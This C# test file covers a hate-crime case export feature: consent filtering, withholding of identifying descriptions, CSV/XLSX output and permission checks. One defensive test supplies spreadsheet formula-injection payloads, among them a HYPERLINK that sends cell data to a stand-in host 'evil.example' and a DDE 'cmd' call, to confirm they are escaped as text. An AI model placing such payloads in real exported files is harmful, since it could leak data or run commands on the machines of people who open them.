using Dalel.Core.Cases;
using Dalel.Core.HateCrime;
using Dalel.Core.Members;
using Dalel.Core.Tests.Submissions;
using Dalel.Core.Tests.Support;

namespace Dalel.Core.Tests.HateCrime;

public sealed class HateCrimeExportTests : IDisposable
{
    private readonly TestInstance _test = TestInstance.Create();

    private Guid Record(string violation, bool criminal = true, string[]? indicators = null, string summary = "A man was beaten after a date arranged online.", bool story = true, int year = 2024, bool statistics = true)
    {
        var content = SampleCases.Valid(violation: violation);
        content = content with
        {
            Date = new IncidentDate(DatePrecision.Day, new DateOnly(year, 4, 12), new DateOnly(year, 4, 12)),
            Victims = content.Victims.Select(v => v with { Consents = statistics ? v.Consents : [] }).ToList(),
            HateCrime = new HateCrimeAssessment { CriminalOffence = criminal, BiasIndicators = indicators ?? ["slurs_or_statements"], PublicSummary = summary },
            Interventions = [new Intervention { Type = "complaint_police", Response = "refused_to_register" }],
        };
        if (story)
        {
            content = SubmissionTests.WithStoryConsent(content);
        }

        return new RecordCase(_test.Instance).Run(_test.OwnerOfA, content).Value;
    }

    private HateCrimeReport Select(int year = 2024) => new ExportHateCrimes(_test.Instance).Select(_test.OwnerOfA, year).Value;

    [Fact]
    public void Only_criminal_offences_with_a_bias_indicator_of_the_year_are_reported()
    {
        Record("physical_assault");
        Record("fake_dating");
        Record("property_damage");
        Record("hate_speech_media"); // speech alone is not a hate crime
        Record("physical_assault", criminal: false);
        Record("physical_assault", indicators: []);
        Record("physical_assault", year: 2023);

        var incidents = Select().Incidents;

        Assert.Equal(["Attack on property/Property", "Threat/Person", "Violent attack/Person"], incidents.Select(i => $"{i.IncidentType}/{i.Target}").Order(StringComparer.Ordinal));
        Assert.All(incidents, i => Assert.Equal(("2024-04", "Almaty (city)", "Anti-LGBTI", "Yes"), (i.Date, i.Region, i.BiasCategory, i.ReportedToPolice)));
    }

    [Fact]
    public void Consent_decides_what_goes_out_and_descriptions_with_identifying_details_are_withheld()
    {
        Record("physical_assault", statistics: false);
        Record("physical_assault", story: false);
        Record("physical_assault", summary: "Test was beaten on 12 April 2024 in the park.");
        Record("physical_assault");

        var report = Select();

        Assert.Equal(1, report.LeftOutForConsent);
        Assert.Equal(3, report.Incidents.Count);
        Assert.Equal(["", "", "A man was beaten after a date arranged online."], report.Incidents.Select(i => i.Description).Order(StringComparer.Ordinal));
        Assert.Equal(2, report.DescriptionsWithheld);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
    [InlineData("@SUM(1+1)")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("+1+1")]
    public void A_public_summary_that_a_spreadsheet_would_run_is_written_as_text(string summary)
    {
        Record("physical_assault", summary: summary);
        using var csv = new MemoryStream();

        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Csv, csv).IsOk);

        var text = System.Text.Encoding.UTF8.GetString(csv.ToArray());
        var cells = text.Split('\n')[1];
        Assert.Contains("'" + summary[0], cells, StringComparison.Ordinal);
        Assert.DoesNotContain("," + summary[0], cells, StringComparison.Ordinal);
        Assert.DoesNotContain("\"" + summary[0], cells, StringComparison.Ordinal);
    }

    [Fact]
    public void The_export_is_written_as_CSV_and_XLSX_and_needs_the_export_capability()
    {
        Record("physical_assault");
        using var csv = new MemoryStream();
        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Csv, csv).IsOk);
        var lines = System.Text.Encoding.UTF8.GetString(csv.ToArray()).TrimStart('\uFEFF').Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        Assert.StartsWith("Date (month),Region,Bias motivation,Type of incident", lines[0], StringComparison.Ordinal);

        using var xlsx = new MemoryStream();
        Assert.True(new ExportHateCrimes(_test.Instance).Run(_test.OwnerOfA, 2024, HateCrimeFormat.Xlsx, xlsx).IsOk);
        xlsx.Position = 0;
        var rows = MiniExcelLibs.MiniExcel.Query(xlsx).ToList();
        Assert.Equal(2, rows.Count);

        Assert.IsType<Forbidden>(new ExportHateCrimes(_test.Instance).Select(TestInstance.Scope(_test.OrgA, Role.Analyst), 2024).Error);
        Assert.Empty(new ExportHateCrimes(_test.Instance).Select(_test.OwnerOfB, 2024).Value.Incidents);
    }

    public void Dispose() => _test.Dispose();
}
